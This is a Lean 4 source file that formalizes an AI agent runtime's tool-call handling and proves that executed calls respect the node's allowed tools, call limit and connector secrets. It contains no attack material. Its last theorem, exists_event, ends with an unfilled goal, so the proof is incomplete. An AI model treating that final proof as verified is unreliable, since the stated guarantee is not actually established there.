import Vespid.AgentRuntime.Tools

/-!
# Agent runs on an executor

The worker hands an `agent.run` node to the brain, the brain adds the secrets, and the executor
carries out the tool calls it finds in what the engine said.
-/

namespace Vespid.NodeAgent.AgentRun

open Interleaving
open Scheduler (trim)
open AgentRuntime (Host ToolStatus parseConnectorToolId getCommunityConnectorAction)
open AgentRuntime (optional isFilled isOneOf isInteger)

/-! ### The worker and the brain -/

/-- What of an accepted node decides on its tool calls: the list of tools, the secrets of its
connectors by their ids, and the limit. -/
structure AgentRunNode where
  allow : List String
  connectors : List (String × String)
  maxToolCalls : Nat

/-- What the other fields of a payload give to the tasks of a call. -/
structure RunIds where
  runId : Option String
  workflowId : Option String
  attemptCount : Option Nat

structure AgentRunDispatch where
  allow : List String
  maxToolCalls : Nat
  ids : RunIds
  githubApiBaseUrl : String
  connectorSecretIds : List (String × String)

/-- `createAgentRunExecutor`, where it dispatches. -/
def dispatchOf (githubApiBaseUrl : String) (ids : RunIds) (node : AgentRunNode) :
    AgentRunDispatch where
  allow := node.allow.eraseDups
  maxToolCalls := node.maxToolCalls
  ids := ids
  githubApiBaseUrl := githubApiBaseUrl
  connectorSecretIds := node.connectors.filter fun entry => entry.2 ≠ ""

structure AgentRunPayload where
  allow : List String
  maxToolCalls : Nat
  ids : RunIds
  githubApiBaseUrl : String
  connectors : List (String × String)
  networkEnabled : Bool
  policyTimeoutMs : Option Nat

/-- The brain's part: every secret is loaded, or the dispatch fails. -/
def resolveSecrets (loadSecretValue : String → Option String) (timeoutMs : Nat)
    (dispatch : AgentRunDispatch) : Option AgentRunPayload :=
  (dispatch.connectorSecretIds.mapM fun entry =>
    (loadSecretValue entry.2).map fun value => (entry.1, value)).map fun connectors =>
      { allow := dispatch.allow, maxToolCalls := dispatch.maxToolCalls, ids := dispatch.ids
        githubApiBaseUrl := dispatch.githubApiBaseUrl, connectors, networkEnabled := false
        policyTimeoutMs := some timeoutMs }

/-! ### Calls in the output of an engine -/

inductive CallKind where
  | connectorAction | agentExecute
  deriving DecidableEq

def CallKind.name : CallKind → String
  | connectorAction => "connector.action"
  | agentExecute => "agent.execute"

structure BridgeCall where
  kind : CallKind
  payload : Option Json

/-- What stands before and after the first occurrence of a fence. -/
def breakOn (fence : List Char) : List Char → Option (List Char × List Char)
  | [] => none
  | c :: rest =>
    if fence.isPrefixOf (c :: rest) then some ([], (c :: rest).drop fence.length)
    else (breakOn fence rest).map fun parts => (c :: parts.1, parts.2)

/-- The trimmed bodies of the matches of ``/```vespid_tool_calls\s*([\s\S]*?)```/g``. -/
def toolCallBlocks : Nat → List Char → List (List Char)
  | 0, _ => []
  | fuel + 1, content =>
    match breakOn "```vespid_tool_calls".toList content with
    | none => []
    | some (_, opened) =>
      match breakOn "```".toList opened with
      | none => []
      | some (body, rest) => trim body :: toolCallBlocks fuel rest

def bridgeToolCallSchema : Json → Option BridgeCall
  | .obj fields =>
    match fields.lookup "kind" with
    | some (.str kind) =>
      if kind = "connector.action" then
        some { kind := .connectorAction, payload := fields.lookup "payload" }
      else if kind = "agent.execute" then
        some { kind := .agentExecute, payload := fields.lookup "payload" }
      else none
    | _ => none
  | _ => none

/-- The calls of a block: a list, or the list in the field `tool_calls`. -/
def callsOf (parsed : Json) : List BridgeCall :=
  match parsed with
  | .arr items => items.filterMap bridgeToolCallSchema
  | parsed =>
    match parsed.field? "tool_calls" with
    | some (.arr items) => items.filterMap bridgeToolCallSchema
    | _ => []

def extractToolCalls (host : Host) (content : String) : List BridgeCall :=
  (toolCallBlocks content.toList.length content.toList).flatMap fun raw =>
    if raw = [] then [] else ((host.parse raw).map callsOf).getD []

/-! ### Payloads -/

structure ConnectorPayload where
  connectorId : String
  actionId : String
  input : Option Json
  githubApiBaseUrl : Option String

section schemas
variable (isUrl : String → Bool)

/-- The base URL of the field `env`, if there is one and it is well formed. -/
def parseEnv (fields : List (String × Json)) : Option (Option String) :=
  match fields.lookup "env" with
  | none => some none
  | some env =>
    match env.field? "githubApiBaseUrl" with
    | some (.str url) => if isUrl url then some (some url) else none
    | _ => none

def connectorPayloadSchema : Option Json → Option ConnectorPayload
  | some (.obj fields) =>
    match fields.lookup "connectorId", fields.lookup "actionId", parseEnv isUrl fields with
    | some (.str connectorId), some (.str actionId), some githubApiBaseUrl =>
      if connectorId = "" ∨ actionId = "" then none
      else some { connectorId, actionId, input := fields.lookup "input", githubApiBaseUrl }
    | _, _, _ => none
  | _ => none

end schemas

structure ShellTask where
  script : String
  shell : Option String
  env : Option (List (String × String))

structure SandboxConfig where
  backend : Option String
  timeoutMs : Option Nat
  image : Option String

structure AgentExecutePayload where
  nodeId : String
  task : Option ShellTask
  sandbox : Option SandboxConfig
  ids : RunIds

def textField (fields : List (String × Json)) (key : String) : Option String :=
  match fields.lookup key with
  | some (.str value) => some value
  | _ => none

def natField (fields : List (String × Json)) (key : String) : Option Nat :=
  match fields.lookup key with
  | some (.num value) => some value.num.toNat
  | _ => none

/-- The entries of a record of texts. -/
def textEntries (fields : List (String × Json)) : Option (List (String × String)) :=
  fields.mapM fun entry =>
    match entry.2 with
    | .str value => some (entry.1, value)
    | _ => none

/-- A record of texts that may be absent. -/
def parseRecord (fields : List (String × Json)) (key : String) :
    Option (Option (List (String × String))) :=
  match fields.lookup key with
  | none => some none
  | some (.obj entries) => (textEntries entries).map some
  | some _ => none

def parseTask (task : Json) : Option ShellTask :=
  match task with
  | .obj fields =>
    match textField fields "type", textField fields "script", parseRecord fields "env" with
    | some "shell", some script, some env =>
      if script ≠ "" ∧ optional fields "shell" (isOneOf ["sh", "bash"]) then
        some { script, shell := textField fields "shell", env }
      else none
    | _, _, _ => none
  | _ => none

def isDocker : Json → Bool
  | .obj fields => optional fields "image" isFilled
  | _ => false

def parseSandbox (sandbox : Json) : Option SandboxConfig :=
  match sandbox with
  | .obj fields =>
    if optional fields "backend" (isOneOf ["docker", "host", "provider"]) &&
        optional fields "network" (isOneOf ["none", "enabled"]) &&
        optional fields "timeoutMs" (isInteger 1000 600000) &&
        optional fields "docker" isDocker then
      some
        { backend := textField fields "backend", timeoutMs := natField fields "timeoutMs"
          image := match fields.lookup "docker" with
            | some (.obj docker) => textField docker "image"
            | _ => none }
    else none
  | _ => none

/-- A field that may be absent, and is parsed otherwise. -/
def parseOptional {α : Type} (fields : List (String × Json)) (key : String)
    (parse : Json → Option α) : Option (Option α) :=
  match fields.lookup key with
  | none => some none
  | some value => (parse value).map some

/-- The task and the sandbox of a node's config. -/
def parseConfig (config : Json) : Option (Option ShellTask × Option SandboxConfig) :=
  match config with
  | .obj fields =>
    match parseOptional fields "task" parseTask, parseOptional fields "sandbox" parseSandbox with
    | some task, some sandbox => some (task, sandbox)
    | _, _ => none
  | _ => none

def parseExecuteNode (node : Json) : Option (Option (Option ShellTask × Option SandboxConfig)) :=
  match node with
  | .obj fields =>
    match textField fields "id", textField fields "type" with
    | some id, some "agent.execute" =>
      if id = "" then none else parseOptional fields "config" parseConfig
    | _, _ => none
  | _ => none

def isCount : Json → Bool
  | .num n => n.isInt && 1 ≤ n
  | _ => false

def agentExecutePayloadSchema (host : Host) : Option Json → Option AgentExecutePayload
  | some (.obj fields) =>
    match textField fields "nodeId", parseOptional fields "node" parseExecuteNode with
    | some nodeId, some node =>
      if nodeId ≠ "" ∧ optional fields "runId" (AgentRuntime.isUuidText host) ∧
          optional fields "workflowId" (AgentRuntime.isUuidText host) ∧
          optional fields "attemptCount" isCount then
        some
          { nodeId, task := node.join.bind (·.1), sandbox := node.join.bind (·.2)
            ids :=
              { runId := textField fields "runId", workflowId := textField fields "workflowId"
                attemptCount := natField fields "attemptCount" } }
      else none
    | _, _ => none
  | _ => none

/-! ### Tool calls -/

structure ActionCall where
  connectorId : String
  actionId : String
  input : Json
  secret : Option String
  githubApiBaseUrl : String

structure ShellCall where
  nodeId : String
  ids : RunIds
  script : String
  shell : String
  taskEnv : List (String × String)
  backend : Option String
  networkEnabled : Bool
  timeoutMs : Option Nat
  dockerImage : Option String

inductive ToolCall where
  | action (call : ActionCall)
  | shell (call : ShellCall)

structure CallResult where
  status : ToolStatus
  output : Option Json
  error : Option String

structure ToolResult extends CallResult where
  kind : CallKind

def failedResult (kind : CallKind) (error : String) : ToolResult where
  kind := kind
  status := .failed
  output := none
  error := some error

/-- A call carried out, with its place among the calls of the output. -/
structure CallOp where
  index : Nat
  call : ToolCall

/-- What the call came to, unless it threw. -/
abbrev CallOps : Interface where
  Op := CallOp
  Reply _ := Option CallResult

abbrev CallProgram := Program CallOps

/-- What the loop does about a call: nothing, a result without carrying it out, or the call. -/
inductive Attempt where
  | skip
  | refuse (error : String)
  | perform (call : ToolCall)

section run
variable (host : Host) (isUrl : String → Bool) (payload : AgentRunPayload)

/-- `runConnectorTask` up to `action.execute`. -/
def runConnectorTask (action : ConnectorPayload) (secretOverride : Option String) : Attempt :=
  match getCommunityConnectorAction action.connectorId action.actionId with
  | none => .refuse ("ACTION_NOT_SUPPORTED:" ++ action.connectorId ++ ":" ++ action.actionId)
  | some found =>
    match found.inputSchema action.input with
    | none => .refuse "INVALID_ACTION_INPUT"
    | some input =>
      let secret := if found.requiresSecret then secretOverride else none
      if found.requiresSecret ∧ secret.getD "" = "" then .refuse "SECRET_REQUIRED"
      else .perform (.action
        { connectorId := action.connectorId, actionId := action.actionId, input, secret
          githubApiBaseUrl := action.githubApiBaseUrl.getD "https://api.github.com" })

def runAgentExecuteTask (execute : AgentExecutePayload) (task : ShellTask) : ShellCall where
  nodeId := execute.nodeId
  ids :=
    { runId := execute.ids.runId <|> payload.ids.runId
      workflowId := execute.ids.workflowId <|> payload.ids.workflowId
      attemptCount := execute.ids.attemptCount <|> payload.ids.attemptCount }
  script := task.script
  shell := task.shell.getD "sh"
  taskEnv := task.env.getD []
  backend := execute.sandbox.bind (·.backend)
  networkEnabled := payload.networkEnabled
  timeoutMs := payload.policyTimeoutMs <|> execute.sandbox.bind (·.timeoutMs)
  dockerImage := execute.sandbox.bind (·.image)

/-- A call whose kind is allowed. -/
def attemptCall (call : BridgeCall) : Attempt :=
  match call.kind with
  | .connectorAction =>
    match connectorPayloadSchema isUrl call.payload with
    | none => .refuse "INVALID_ACTION_PAYLOAD"
    | some action => runConnectorTask action (payload.connectors.lookup action.connectorId)
  | .agentExecute =>
    match agentExecutePayloadSchema host call.payload with
    | none => .refuse "INVALID_EXECUTE_PAYLOAD"
    | some execute =>
      match execute.task with
      | none => .refuse "INVALID_EXECUTE_PAYLOAD"
      | some task => .perform (.shell (runAgentExecuteTask payload execute task))

/-- The body of the loop up to the call. -/
def attempt (call : BridgeCall) : Attempt :=
  if call.kind.name ∈ payload.allow then attemptCall host isUrl payload call else .skip

/-- The loop from the call at `index` on. A call that throws ends it. -/
def runToolCalls : List BridgeCall → Nat → List ToolResult → CallProgram (Option (List ToolResult))
  | [], _, toolResults => return some toolResults
  | call :: rest, index, toolResults =>
    if payload.maxToolCalls ≤ index then return some toolResults
    else match attempt host isUrl payload call with
      | .skip => runToolCalls rest (index + 1) toolResults
      | .refuse error =>
        runToolCalls rest (index + 1) (toolResults ++ [failedResult call.kind error])
      | .perform toolCall => do
        match ← Program.issue (I := CallOps) { index, call := toolCall } with
        | none => return none
        | some result =>
          runToolCalls rest (index + 1) (toolResults ++ [{ result with kind := call.kind }])

/-- The tool calls of `executeTool` for a payload and an output of the engine. -/
def toolResultsOf (content : String) : CallProgram (Option (List ToolResult)) :=
  runToolCalls host isUrl payload (extractToolCalls host content) 0 []

end run

/-! ### The grant -/

/-- An alias of the action is among the tools. -/
def AllowsAction (allow : List String) (connectorId actionId : String) : Prop :=
  ∃ toolId ∈ allow, parseConnectorToolId toolId = some (connectorId, actionId)

instance (allow : List String) (connectorId actionId : String) :
    Decidable (AllowsAction allow connectorId actionId) := by
  unfold AllowsAction
  infer_instance

/-- What a node's tools permit. -/
def Allows (allow : List String) : ToolCall → Prop
  | .action call => AllowsAction allow call.connectorId call.actionId
  | .shell _ => "shell.run" ∈ allow

/-- A secret goes with the base URL of the dispatch, and to the connector it is for. -/
def SecretKept (node : AgentRunNode) (githubApiBaseUrl : String)
    (loadSecretValue : String → Option String) : ToolCall → Prop
  | .action call => ∀ secret, call.secret = some secret →
      call.githubApiBaseUrl = githubApiBaseUrl ∧ ∃ secretId,
        (call.connectorId, secretId) ∈ node.connectors ∧ loadSecretValue secretId = some secret
  | .shell _ => True

/-- What the tools of the node, its secrets and the dispatch grant to a run with these calls. -/
structure InsideGrant (host : Host) (isUrl : String → Bool) (node : AgentRunNode)
    (githubApiBaseUrl : String) (loadSecretValue : String → Option String)
    (payload : AgentRunPayload) (calls : List BridgeCall) (trace : List (Event CallOps))
    (results : Option (List ToolResult)) : Prop where
  bounded : trace.length ≤ node.maxToolCalls
  inOrder : trace.Pairwise fun e f => e.op.index < f.op.index
  called : ∀ e ∈ trace, ∃ call, calls[e.op.index]? = some call ∧
    attemptCall host isUrl payload call = .perform e.op.call
  permitted : ∀ e ∈ trace, Allows node.allow e.op.call
  executed : results ≠ none → ∀ index call toolCall, calls[index]? = some call →
    index < node.maxToolCalls → attemptCall host isUrl payload call = .perform toolCall →
    Allows node.allow toolCall → ∃ e ∈ trace, e.op.index = index
  secrets : ∀ e ∈ trace, SecretKept node githubApiBaseUrl loadSecretValue e.op.call
  listed : ∀ list, results = some list →
    list.map (·.kind) =
      ((calls.take node.maxToolCalls).filter fun call => call.kind.name ∈ node.allow).map (·.kind) ∧
    (trace.filterMap (·.reply)).Sublist (list.map (·.toCallResult))

/-- The kind of a call is allowed exactly if its tool is, and then a secret goes to the base URL
of the dispatch. -/
def CallWithin (allow : List String) (githubApiBaseUrl : String) : ToolCall → Prop
  | .action call =>
    ("connector.action" ∈ allow ↔ AllowsAction allow call.connectorId call.actionId) ∧
      ("connector.action" ∈ allow → call.secret.isSome = true →
        call.githubApiBaseUrl = githubApiBaseUrl)
  | .shell _ => "agent.execute" ∈ allow ↔ "shell.run" ∈ allow

/-! ### The loop -/

section loop
variable {host : Host} {isUrl : String → Bool} {payload : AgentRunPayload}

/-- What the loop does from the call at `index` on, with the results it has so far. -/
structure LoopRan (host : Host) (isUrl : String → Bool) (payload : AgentRunPayload)
    (calls : List BridgeCall) (index : Nat) (before : List ToolResult)
    (trace : List (Event CallOps)) (results : Option (List ToolResult)) : Prop where
  bounded : trace.length ≤ payload.maxToolCalls - index
  inOrder : trace.Pairwise fun e f => e.op.index < f.op.index
  called : ∀ e ∈ trace, ∃ k call, e.op.index = index + k ∧ calls[k]? = some call ∧
    e.op.index < payload.maxToolCalls ∧ attempt host isUrl payload call = .perform e.op.call
  executed : results ≠ none → ∀ k call toolCall, calls[k]? = some call →
    index + k < payload.maxToolCalls → attempt host isUrl payload call = .perform toolCall →
    ∃ e ∈ trace, e.op.index = index + k
  listed : ∀ list, results = some list → ∃ new, list = before ++ new ∧
    new.map (·.kind) = ((calls.take (payload.maxToolCalls - index)).filter
      fun call => call.kind.name ∈ payload.allow).map (·.kind) ∧
    (trace.filterMap (·.reply)).Sublist (new.map (·.toCallResult))

theorem loopRan_nil (index : Nat) (before : List ToolResult) :
    LoopRan host isUrl payload [] index before [] (some before) where
  bounded := Nat.zero_le _
  inOrder := .nil
  called _ mem := by cases mem
  executed _ k call _ at_ := by cases at_
  listed list is := by
    obtain rfl := Option.some.inj is
    exact ⟨[], (List.append_nil _).symm, by simp, List.Sublist.refl _⟩

theorem loopRan_over {calls : List BridgeCall} {index : Nat} (before : List ToolResult)
    (beyond : payload.maxToolCalls ≤ index) :
    LoopRan host isUrl payload calls index before [] (some before) where
  bounded := Nat.zero_le _
  inOrder := .nil
  called _ mem := by cases mem
  executed _ k call _ _ below := by omega
  listed list is := by
    obtain rfl := Option.some.inj is
    refine ⟨[], (List.append_nil _).symm, ?_, List.Sublist.refl _⟩
    rw [Nat.sub_eq_zero_of_le beyond]
    rfl

theorem runConnectorTask_ne_skip (action : ConnectorPayload) (secret : Option String) :
    runConnectorTask action secret ≠ .skip := by
  unfold runConnectorTask
  split
  · exact Attempt.noConfusion
  · split
    · exact Attempt.noConfusion
    · dsimp only
      split
      · split <;> exact Attempt.noConfusion
      · split <;> exact Attempt.noConfusion

theorem attemptCall_ne_skip (call : BridgeCall) : attemptCall host isUrl payload call ≠ .skip := by
  unfold attemptCall
  split
  · split
    · exact Attempt.noConfusion
    · exact runConnectorTask_ne_skip _ _
  · split
    · exact Attempt.noConfusion
    · split
      · exact Attempt.noConfusion
      · exact Attempt.noConfusion

theorem attempt_perform {call : BridgeCall} {toolCall : ToolCall} :
    attempt host isUrl payload call = .perform toolCall ↔ call.kind.name ∈ payload.allow ∧
      attemptCall host isUrl payload call = .perform toolCall := by
  unfold attempt
  split
  · next allowed => exact ⟨fun is => ⟨allowed, is⟩, fun is => is.2⟩
  · next other => exact ⟨fun is => (by cases is), fun is => absurd is.1 other⟩

theorem attempt_skip {call : BridgeCall} (skipped : attempt host isUrl payload call = .skip) :
    call.kind.name ∉ payload.allow := by
  intro allowed
  rw [attempt, if_pos allowed] at skipped
  exact attemptCall_ne_skip call skipped

theorem attempt_allowed {call : BridgeCall} {attempted : Attempt}
    (is : attempt host isUrl payload call = attempted) (kept : attempted ≠ .skip) :
    call.kind.name ∈ payload.allow := by
  by_contra other
  exact kept (is.symm.trans (if_neg other))

/-- The loop after a call that was not carried out. -/
theorem LoopRan.later {call : BridgeCall} {calls : List BridgeCall} {index : Nat}
    {before fresh : List ToolResult} {trace : List (Event CallOps)}
    {results : Option (List ToolResult)} (below : index < payload.maxToolCalls)
    (ran : LoopRan host isUrl payload calls (index + 1) (before ++ fresh) trace results)
    (idle : ∀ toolCall, attempt host isUrl payload call ≠ .perform toolCall)
    (kinds : fresh.map (·.kind) =
      ([call].filter fun call => call.kind.name ∈ payload.allow).map (·.kind)) :
    LoopRan host isUrl payload (call :: calls) index before trace results where
  bounded := by
    have bounded := ran.bounded
    omega
  inOrder := ran.inOrder
  called e mem := by
    obtain ⟨k, call, at_, there, small, performs⟩ := ran.called e mem
    exact ⟨k + 1, call, by omega, there, small, performs⟩
  executed some_ k other toolCall at_ small performs := by
    cases k with
    | zero =>
      obtain rfl := Option.some.inj at_
      exact absurd performs (idle toolCall)
    | succ k =>
      obtain ⟨e, mem, is⟩ := ran.executed some_ k other toolCall at_ (by omega) performs
      exact ⟨e, mem, by omega⟩
  listed list is := by
    obtain ⟨new, rfl, same, among⟩ := ran.listed list is
    refine ⟨fresh ++ new, List.append_assoc .., ?_, ?_⟩
    · rw [show payload.maxToolCalls - index = payload.maxToolCalls - (index + 1) + 1 by omega,
        List.take_succ_cons, List.map_append, same, kinds, ← List.map_append, ← List.filter_append]
      rfl
    · rw [List.map_append]
      exact among.trans (List.sublist_append_right _ _)

/-- The loop after a call that was carried out. -/
theorem LoopRan.after {call : BridgeCall} {calls : List BridgeCall} {index : Nat}
    {before : List ToolResult} {trace : List (Event CallOps)} {results : Option (List ToolResult)}
    {toolCall : ToolCall} {result : CallResult} (below : index < payload.maxToolCalls)
    (performs : attempt host isUrl payload call = .perform toolCall)
    (ran : LoopRan host isUrl payload calls (index + 1)
      (before ++ [{ result with kind := call.kind }]) trace results) :
    LoopRan host isUrl payload (call :: calls) index before
      (⟨{ index, call := toolCall }, some result⟩ :: trace) results where
  bounded := by
    have bounded := ran.bounded
    rw [List.length_cons]
    omega
  inOrder := by
    refine List.pairwise_cons.mpr ⟨fun e mem => ?_, ran.inOrder⟩
    obtain ⟨k, -, at_, -⟩ := ran.called e mem
    show index < e.op.index
    omega
  called e mem := by
    obtain rfl | mem := List.mem_cons.mp mem
    · exact ⟨0, call, rfl, rfl, below, performs⟩
    · obtain ⟨k, call, at_, there, small, performs⟩ := ran.called e mem
      exact ⟨k + 1, call, by omega, there, small, performs⟩
  executed some_ k other toolCall' at_ small performs' := by
    cases k with
    | zero => exact ⟨_, List.mem_cons_self, rfl⟩
    | succ k =>
      obtain ⟨e, mem, is⟩ := ran.executed some_ k other toolCall' at_ (by omega) performs'
      exact ⟨e, List.mem_cons_of_mem _ mem, by omega⟩
  listed list is := by
    obtain ⟨new, rfl, same, among⟩ := ran.listed list is
    have allowed := (attempt_perform.mp performs).1
    refine ⟨{ result with kind := call.kind } :: new, by simp, ?_, ?_⟩
    · rw [show payload.maxToolCalls - index = payload.maxToolCalls - (index + 1) + 1 by omega,
        List.take_succ_cons, List.filter_cons_of_pos (by simpa using allowed), List.map_cons,
        List.map_cons, same]
    · exact among.cons_cons result

theorem loopRan_threw {call : BridgeCall} {calls : List BridgeCall} {index : Nat}
    {before : List ToolResult} {toolCall : ToolCall} (below : index < payload.maxToolCalls)
    (performs : attempt host isUrl payload call = .perform toolCall) :
    LoopRan host isUrl payload (call :: calls) index before
      [⟨{ index, call := toolCall }, none⟩] none where
  bounded := by
    rw [List.length_singleton]
    omega
  inOrder := List.pairwise_singleton _ _
  called e mem := by
    rw [List.mem_singleton.mp mem]
    exact ⟨0, call, rfl, rfl, below, performs⟩
  executed none_ := absurd rfl none_
  listed _ is := by cases is

theorem runToolCalls_ran {calls : List BridgeCall} {index : Nat} {before : List ToolResult}
    {trace : List (Event CallOps)} {results : Option (List ToolResult)}
    (run : (runToolCalls host isUrl payload calls index before).Runs trace results) :
    LoopRan host isUrl payload calls index before trace results := by
  induction calls generalizing index before trace with
  | nil =>
    obtain ⟨rfl, rfl⟩ := run
    exact loopRan_nil index before
  | cons call calls ih =>
    unfold runToolCalls at run
    split at run
    · next beyond =>
      obtain ⟨rfl, rfl⟩ := run
      exact loopRan_over before beyond
    · next below =>
      have below : index < payload.maxToolCalls := by omega
      split at run
      · next skipped =>
        have ran := ih run
        rw [← List.append_nil before] at ran
        refine ran.later below (fun toolCall performs => ?_) ?_
        · rw [skipped] at performs
          cases performs
        · rw [List.filter_cons_of_neg (by simpa using attempt_skip skipped)]
          rfl
      · next error refused =>
        refine (ih run).later below (fun toolCall performs => ?_) ?_
        · rw [refused] at performs
          cases performs
        · have allowed := attempt_allowed refused Attempt.noConfusion
          rw [List.filter_cons_of_pos (by simpa using allowed)]
          rfl
      · next toolCall performs =>
        obtain ⟨reply, rest, rfl, run⟩ := run
        cases reply with
        | none =>
          obtain ⟨rfl, rfl⟩ := run
          exact loopRan_threw below performs
        | some result => exact (ih run).after below performs

/-- Where no call throws, the loop has results. -/
theorem runToolCalls_returns (calls : List BridgeCall) (index : Nat) (before : List ToolResult) :
    (runToolCalls host isUrl payload calls index before).Returns
      (fun _ reply => reply ≠ none) (fun results => results ≠ none) := by
  induction calls generalizing index before with
  | nil => exact Option.some_ne_none before
  | cons call calls ih =>
    unfold runToolCalls
    split
    · exact Option.some_ne_none before
    · split
      · exact ih _ _
      · exact ih _ _
      · intro reply answered
        cases reply with
        | none => exact absurd rfl answered
        | some result => exact ih _ _

theorem runToolCalls_completes (host : Host) (isUrl : String → Bool) (payload : AgentRunPayload)
    (calls : List BridgeCall) :
    ∃ trace list, (runToolCalls host isUrl payload calls 0 []).Runs trace (some list) := by
  let fine : CallResult := { status := .succeeded, output := none, error := none }
  have run := Program.runs_with (fun _ => some fine) (runToolCalls host isUrl payload calls 0 [])
  have returned := run.returns (runToolCalls_returns calls 0 []) fun event mem => by
    rw [Program.eq_of_mem_traceWith mem]
    exact Option.some_ne_none fine
  obtain ⟨list, is⟩ := Option.ne_none_iff_exists'.mp returned
  rw [is] at run
  exact ⟨_, list, run⟩

theorem runConnectorTask_perform {action : ConnectorPayload} {secret : Option String}
    {toolCall : ToolCall} (performs : runConnectorTask action secret = .perform toolCall) :
    ∃ call, toolCall = .action call ∧ call.connectorId = action.connectorId ∧
      ∀ value, call.secret = some value → secret = some value := by
  unfold runConnectorTask at performs
  split at performs
  · cases performs
  · split at performs
    · cases performs
    · dsimp only at performs
      split at performs
      · split at performs
        · cases performs
        · cases performs
          exact ⟨_, rfl, rfl, fun _ is => is⟩
      · split at performs
        · cases performs
        · cases performs
          exact ⟨_, rfl, rfl, fun _ is => by cases is⟩

theorem attemptCall_perform {call : BridgeCall} {toolCall : ToolCall}
    (performs : attemptCall host isUrl payload call = .perform toolCall) :
    (call.kind = .connectorAction ∧ ∃ action, toolCall = .action action ∧
      ∀ value, action.secret = some value →
        payload.connectors.lookup action.connectorId = some value) ∨
    (call.kind = .agentExecute ∧ ∃ shell, toolCall = .shell shell) := by
  unfold attemptCall at performs
  split at performs
  · next kind =>
    split at performs
    · cases performs
    · obtain ⟨action, rfl, same, secret⟩ := runConnectorTask_perform performs
      refine .inl ⟨kind, action, rfl, fun value is => ?_⟩
      rw [same]
      exact secret value is
  · next kind =>
    split at performs
    · cases performs
    · split at performs
      · cases performs
      · cases performs
        exact .inr ⟨kind, _, rfl⟩

end loop

/-! ### What a dispatch brings -/

section dispatch
variable {loadSecretValue : String → Option String} {timeoutMs : Nat} {githubApiBaseUrl : String}
  {ids : RunIds} {node : AgentRunNode} {payload : AgentRunPayload}

/-- The payload of the node on the executor. -/
structure Brings (loadSecretValue : String → Option String) (node : AgentRunNode)
    (payload : AgentRunPayload) : Prop where
  allow : ∀ toolId, toolId ∈ payload.allow ↔ toolId ∈ node.allow
  maxToolCalls : payload.maxToolCalls = node.maxToolCalls
  secrets : ∀ connectorId value, payload.connectors.lookup connectorId = some value →
    ∃ secretId, (connectorId, secretId) ∈ node.connectors ∧ loadSecretValue secretId = some value

theorem mem_of_mapM {α β : Type} {f : α → Option β} {items : List α} {images : List β} {image : β}
    (all : items.mapM f = some images) (mem : image ∈ images) :
    ∃ item ∈ items, f item = some image := by
  induction items generalizing images with
  | nil =>
    cases all
    cases mem
  | cons item items ih =>
    rw [List.mapM_cons] at all
    obtain ⟨first, is, all⟩ := Option.bind_eq_some_iff.mp all
    obtain ⟨rest, more, all⟩ := Option.bind_eq_some_iff.mp all
    cases all
    obtain rfl | mem := List.mem_cons.mp mem
    · exact ⟨item, List.mem_cons_self, is⟩
    · obtain ⟨other, there, is⟩ := ih more mem
      exact ⟨other, List.mem_cons_of_mem _ there, is⟩

theorem resolveSecrets_brings (resolved : resolveSecrets loadSecretValue timeoutMs
    (dispatchOf githubApiBaseUrl ids node) = some payload) :
    Brings loadSecretValue node payload := by
  obtain ⟨connectors, loaded, rfl⟩ := Option.map_eq_some_iff.mp resolved
  refine ⟨fun toolId => List.mem_eraseDups, rfl, fun connectorId value is => ?_⟩
  have there : (connectorId, value) ∈ connectors := by
    obtain ⟨before, after, rfl, -⟩ := List.lookup_eq_some_iff.mp is
    exact List.mem_append_right _ List.mem_cons_self
  obtain ⟨entry, mem, same⟩ := mem_of_mapM loaded there
  obtain ⟨found, load, same⟩ := Option.map_eq_some_iff.mp same
  obtain ⟨rfl, rfl⟩ := Prod.mk.inj same
  exact ⟨entry.2, (List.mem_filter.mp mem).1, load⟩

/-- The loop allows the kinds of the calls that it carries out. -/
theorem kind_of_within {host : Host} {isUrl : String → Bool} {call : BridgeCall}
    {toolCall : ToolCall} (performs : attemptCall host isUrl payload call = .perform toolCall)
    (within : CallWithin node.allow githubApiBaseUrl toolCall) :
    call.kind.name ∈ node.allow ↔ Allows node.allow toolCall := by
  obtain ⟨kind, action, rfl, -⟩ | ⟨kind, shell, rfl⟩ := attemptCall_perform performs
  · rw [kind]
    exact within.1
  · rw [kind]
    exact within

theorem secretKept_of_within {host : Host} {isUrl : String → Bool} {call : BridgeCall}
    {toolCall : ToolCall} (brings : Brings loadSecretValue node payload)
    (performs : attemptCall host isUrl payload call = .perform toolCall)
    (allowed : call.kind.name ∈ node.allow)
    (within : CallWithin node.allow githubApiBaseUrl toolCall) :
    SecretKept node githubApiBaseUrl loadSecretValue toolCall := by
  obtain ⟨kind, action, rfl, from_⟩ | ⟨-, shell, rfl⟩ := attemptCall_perform performs
  · rw [kind] at allowed
    intro secret is
    exact ⟨within.2 allowed (by rw [is]; rfl), brings.secrets _ _ (from_ secret is)⟩
  · trivial

/-- The calls that a run carried out and those that it would have. -/
theorem loopRan_event {host : Host} {isUrl : String → Bool} {calls : List BridgeCall}
    {trace : List (Event CallOps)} {results : Option (List ToolResult)} {e : Event CallOps}
    (brings : Brings loadSecretValue node payload)
    (ran : LoopRan host isUrl payload calls 0 [] trace results) (mem : e ∈ trace) :
    ∃ call ∈ calls.take node.maxToolCalls, calls[e.op.index]? = some call ∧
      call.kind.name ∈ node.allow ∧ attemptCall host isUrl payload call = .perform e.op.call := by
  obtain ⟨k, call, at_, there, small, performs⟩ := ran.called e mem
  obtain ⟨allowed, performs⟩ := attempt_perform.mp performs
  rw [Nat.zero_add] at at_
  rw [brings.maxToolCalls, at_] at small
  obtain ⟨bound, is⟩ := List.getElem?_eq_some_iff.mp there
  refine ⟨call, List.mem_take_iff_getElem.mpr ⟨k, by omega, is⟩, ?_, ?_, performs⟩
  · rw [at_]
    exact there
  · exact (brings.allow _).mp allowed

theorem exists_event {host : Host} {isUrl : String → Bool} {calls : List BridgeCall}
    {trace : List (Event CallOps)} {results : Option (List ToolResult)} {index : Nat}
    {call : BridgeCall} {toolCall : ToolCall} (brings : Brings loadSecretValue node payload)
    (ran : LoopRan host isUrl payload calls 0 [] trace results) (finished : results ≠ none)
    (there : calls[index]? = some call) (small : index < node.maxToolCalls)
    (allowed : call.kind.name ∈ node.allow)
    (performs : attemptCall host isUrl payload call = .perform toolCall) :
    ∃ e ∈ trace, e.op.index = index ∧ e.op.call = toolCall := by
  have performs := attempt_perform.mpr ⟨(brings.allow _).mpr allowed, performs⟩
  have below : 0 + index < payload.maxToolCalls := by
    rw [brings.maxToolCalls]
    omega
  obtain ⟨e, mem, at_⟩ := ran.executed finished index call toolCall there below performs
  rw [Nat.zero_add] at at_
  refine ⟨e, mem, at_, ?_⟩
